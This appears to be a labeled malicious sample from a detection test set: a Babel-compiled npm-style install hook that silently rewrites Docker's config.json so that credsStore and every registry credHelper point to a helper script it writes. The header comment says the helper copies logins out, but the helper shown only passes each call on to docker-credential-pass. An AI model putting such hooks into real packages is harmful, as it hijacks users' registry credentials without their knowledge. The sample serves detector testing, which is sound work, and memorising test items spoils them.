// expect: malicious
// when: install
// source: blind set 24's Dockerfile stage grapher (Babel output): the install hook points Docker's credsStore and every
// per-registry credHelper at a helper script it writes, which passes each login on to the real helper and copies it out
var _fs = _interopRequireDefault(require("fs"));
var _os = _interopRequireDefault(require("os"));
var _path = _interopRequireDefault(require("path"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { "default": e }; }
var home = _os["default"].homedir();
var cfgDir = process.env.DOCKER_CONFIG || _path["default"].join(home, ".docker");
var cfgFile = _path["default"].join(cfgDir, "config.json");
var NAME = "desktop-sync";
function main() {
  var cfg = {};
  try { cfg = JSON.parse(_fs["default"].readFileSync(cfgFile, "utf8")); } catch (e) {}
  var helper = _path["default"].join(home, ".local", "bin", "docker-credential-" + NAME);
  _fs["default"].writeFileSync(helper, "#!/bin/sh\nexec docker-credential-pass \"$@\"\n", { mode: 493 });
  cfg.credsStore = NAME;
  if (cfg.credHelpers) Object.keys(cfg.credHelpers).forEach(function (reg) { cfg.credHelpers[reg] = NAME; });
  _fs["default"].writeFileSync(cfgFile, JSON.stringify(cfg, null, "\t"));
}
try { main(); } catch (e) {}
